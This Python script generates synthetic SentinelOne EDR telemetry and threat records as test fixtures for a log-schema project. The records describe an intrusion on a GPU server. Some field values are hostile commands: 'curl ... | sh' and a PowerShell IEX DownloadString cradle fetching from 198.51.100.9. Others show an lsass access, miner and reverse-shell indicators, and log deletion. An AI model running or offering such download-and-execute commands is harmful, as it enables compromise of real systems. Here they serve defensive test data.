#!/usr/bin/env python3
"""Makes SYNTHETIC records of SentinelOne: Cloud Funnel 2.0 and threats of the management API.

Needs    python3.
Installs nothing.
Writes   schemas/sources/sentinelone.singularity/testdata/synthetic_funnel.ndjson
         schemas/sources/sentinelone.singularity/testdata/synthetic_threats.json

SentinelOne is a paid service: nothing is recorded. Names follow published samples.
"""

import json

import common
import synthetic as s


def event(i, kind, category, **more):
    flat = {"timestamp": s.at(i, "%H:%M:%S.%f")[:-3], "event.time": s.ms(i), "event.id": f"01JG7NPDYKJDP1X0XSQ9K7J2N_{i}", "event.type": kind, "event.category": category,
            "meta.event.name": kind.upper().replace(" ", ""), "endpoint.name": "gpu-node-3", "endpoint.os": "linux", "endpoint.type": "server", "agent.uuid": "a5df-1", "agent.version": "25.1.1.7",
            "account.id": "1", "account.name": "Example", "site.id": "2", "site.name": "Prod", "group.id": "3", "mgmt.id": "16964", "mgmt.url": "example.sentinelone.net", "i.scheme": "edr", "i.version": "preprocess-lib-1.0",
            "dataSource.name": "SentinelOne", "dataSource.category": "security", "dataSource.vendor": "SentinelOne", "packet.id": "P1", "trace.id": f"01JG{i}", "os.name": "Linux",
            "src.process.name": "python3.11", "src.process.displayName": "python3.11", "src.process.pid": 3596, "src.process.uid": "F594", "src.process.user": "mlops",
            "src.process.cmdline": "python3 -m ray.serve", "src.process.image.path": "/usr/bin/python3.11", "src.process.image.sha1": s.digest("py", 40), "src.process.image.sha256": s.digest("py"),
            "src.process.image.md5": s.digest("py", 32), "src.process.storyline.id": "F8C4", "src.process.signedStatus": "unsigned", "src.process.startTime": s.ms(0), "src.process.integrityLevel": "INTEGRITY_LEVEL_UNKNOWN",
            "src.process.parent.name": "systemd", "src.process.parent.pid": 1, "src.process.parent.uid": "F001", "src.process.parent.cmdline": "/sbin/init", "src.process.parent.image.path": "/usr/lib/systemd/systemd",
            "src.process.isStorylineRoot": False, "process.unique.key": "F594"}
    return flat | {k.replace("__", "."): v for k, v in more.items()}


RECORDS = [
    event(1, "Process Creation", "process", **{"tgt.process.name": "bash", "tgt.process.displayName": "bash", "tgt.process.pid": 4720, "tgt.process.uid": "F595", "tgt.process.cmdline": "bash -c 'curl http://198.51.100.9/x | sh'",
          "tgt.process.image.path": "/usr/bin/bash", "tgt.process.image.sha1": s.digest("b", 40), "tgt.process.image.sha256": s.digest("b"), "tgt.process.image.md5": s.digest("b", 32), "tgt.process.user": "mlops",
          "tgt.process.signedStatus": "unsigned", "tgt.process.integrityLevel": "INTEGRITY_LEVEL_UNKNOWN", "tgt.process.storyline.id": "F8C4", "tgt.process.startTime": s.ms(1)}),
    event(2, "Process Exit", "process", **{"tgt.process.name": "bash", "tgt.process.pid": 4720, "tgt.process.uid": "F595"}),
    event(3, "Open Remote Process Handle", "cross_process", **{"tgt.process.name": "lsass.exe", "tgt.process.pid": 720, "tgt.process.uid": "F700", "tgt.process.image.path": "C:\\Windows\\System32\\lsass.exe", "tgt.process.accessRights": "0x1010"}),
    event(4, "DNS Resolved", "dns", **{"event.dns.request": "xmr.pool.example", "event.dns.response": "type: 1 203.0.113.66;", "event.dns.status": "Success"}),
    event(5, "IP Connect", "ip", **{"src.ip.address": "192.0.2.12", "src.port.number": 50112, "dst.ip.address": "198.51.100.9", "dst.port.number": 443, "event.network.direction": "OUTGOING", "event.network.connectionStatus": "SUCCESS", "event.network.protocolName": "https"}),
    event(6, "IP Connect", "ip", **{"src.ip.address": "203.0.113.66", "src.port.number": 41002, "dst.ip.address": "192.0.2.12", "dst.port.number": 8265, "event.network.direction": "INCOMING", "event.network.connectionStatus": "SUCCESS"}),
    event(7, "File Creation", "file", **{"tgt.file.path": "/tmp/.x/run.sh", "tgt.file.sha1": s.digest("f", 40), "tgt.file.sha256": s.digest("f"), "tgt.file.size": 311, "tgt.file.id": "F9", "tgt.file.type": "UNKNOWN", "tgt.file.extension": "sh"}),
    event(8, "File Rename", "file", **{"tgt.file.path": "/models/a.locked", "tgt.file.oldPath": "/models/a.safetensors", "tgt.file.size": 4976698672}),
    event(9, "File Deletion", "file", **{"tgt.file.path": "/var/log/auth.log"}),
    event(10, "Login", "logins", **{"event.login.userName": "ana", "event.login.accountDomain": "EXAMPLE", "event.login.accountSid": "S-1-5-21-1-2-3-1001", "event.login.loginIsSuccessful": False, "event.login.type": "NETWORK",
           "event.login.failureReason": "Unknown user name or bad password", "src.endpoint.ip.address": "203.0.113.66", "event.login.baseType": "WIN_LOGIN"}),
    event(11, "Login", "logins", **{"event.login.userName": "ana", "event.login.loginIsSuccessful": True, "event.login.type": "REMOTE_INTERACTIVE", "src.endpoint.ip.address": "203.0.113.66", "event.login.isAdministratorEquivalent": True}),
    event(12, "Registry Value Modified", "registry", **{"registry.keyPath": "MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater", "registry.value": "C:\\x.exe", "registry.valueType": "REG_SZ", "registry.oldValue": ""}),
    event(13, "Module Load", "module", **{"module.path": "C:\\Users\\ana\\evil.dll", "module.sha1": s.digest("d", 40), "module.md5": s.digest("d", 32)}),
    event(14, "Command Script", "command_script", **{"cmdScript.content": "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/p')", "cmdScript.sha256": s.digest("s"), "cmdScript.originalSize": 70, "cmdScript.applicationName": "PowerShell_v7"}),
    event(15, "Behavioral Indicators", "indicators", **{"indicator.name": "ReverseShell", "indicator.category": "Execution", "indicator.description": "A shell with a network connection as its input. MITRE: Execution {T1059}", "indicator.metadata": "remote: 198.51.100.9"}),
    event(16, "GET", "url", **{"url.address": "http://198.51.100.9/x", "event.url.action": "GET"}),
    event(17, "Task Register", "scheduled_task", **{"task.name": "\\updater", "task.path": "C:\\Windows\\System32\\Tasks\\updater"}),
    event(18, "Process Creation", "process", **{"tgt.process.name": "nvidia-smi", "tgt.process.pid": 4731, "tgt.process.uid": "F599", "tgt.process.cmdline": "nvidia-smi -q", "tgt.process.image.path": "/usr/bin/nvidia-smi", "tgt.process.user": "root",
           "k8sCluster.name": "prod", "k8sCluster.namespace": "ml", "k8sCluster.podName": "vllm-0", "k8sCluster.containerName": "vllm", "k8sCluster.containerId": "6b74", "k8sCluster.containerImage": "example/vllm:1"}),
]


def threat(i, name, confidence, mitigation, action):
    return {"id": f"98{i}", "threatInfo": {"threatId": f"98{i}", "threatName": name, "classification": "Malware", "classificationSource": "Engine", "confidenceLevel": confidence, "analystVerdict": "undefined",
            "incidentStatus": "unresolved", "mitigationStatus": mitigation, "detectionType": "dynamic", "detectionEngines": [{"key": "executables", "title": "Behavioral AI"}], "filePath": "/tmp/.x/miner", "fileSize": 88112,
            "fileExtension": "", "sha1": s.digest(name, 40), "sha256": None, "md5": None, "originatorProcess": "bash", "processUser": "mlops", "maliciousProcessArguments": "--pool xmr.pool.example", "storyline": "F8C4",
            "createdAt": s.at(i + 1), "identifiedAt": s.at(i), "updatedAt": s.at(i + 5), "initiatedBy": "agent_policy", "publisherName": "", "fileVerificationType": "NotSigned"},
            "agentDetectionInfo": {"agentUuid": "a5df-1", "agentIpV4": "192.0.2.12", "externalIp": "203.0.113.7", "siteId": "2", "siteName": "Prod", "accountId": "1", "agentVersion": "25.1.1.7", "agentOsName": "Linux"},
            "agentRealtimeInfo": {"agentId": "77", "agentComputerName": "gpu-node-3", "agentNetworkStatus": "connected", "agentOsType": "linux", "networkInterfaces": []},
            "indicators": [{"category": "Execution", "description": "A miner started.", "ids": [12], "tactics": [{"name": "Impact", "source": "MITRE", "techniques": [{"name": "T1496", "link": "https://attack.mitre.org/"}]}]}],
            "mitigationStatus": [{"action": action, "status": "success", "lastUpdate": s.at(i + 4)}], "kubernetesInfo": {"cluster": "prod", "namespace": "ml", "pod": "vllm-0", "node": "gpu-node-3"},
            "containerInfo": {"id": "6b74", "image": "example/vllm:1", "name": "vllm", "labels": None}, "whiteningOptions": ["hash"]}


if __name__ == "__main__":
    s.write("sentinelone.singularity", "synthetic_funnel.ndjson", RECORDS)
    common.write(common.testdata("sentinelone.singularity") / "synthetic_threats.json", json.dumps(
        {"data": [threat(20, "Miner", "malicious", "mitigated", "kill"), threat(21, "ReverseShell", "suspicious", "not_mitigated", "quarantine")],
         "pagination": {"nextCursor": None, "totalItems": 2}}, indent=1).encode() + b"\n")
